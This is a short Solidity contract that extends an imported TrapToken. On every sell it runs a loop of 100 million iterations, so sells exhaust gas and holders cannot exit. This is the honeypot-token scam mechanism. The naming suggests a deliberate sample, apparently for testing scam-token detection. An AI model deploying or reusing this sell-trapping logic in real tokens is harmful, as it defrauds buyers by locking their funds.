// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {TrapToken} from "./TrapToken.sol";

/// @notice Works for ever on a sell, until its owner stops it.
contract SimulationOnlyLoop is TrapToken {
    uint256 internal _work;

    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isSell(from, to)) for (uint256 i = 0; i < 100000000; i++) _work = (_work % 1000003) * 31 + (i % 7);
        super._move(from, to, amount);
    }
}
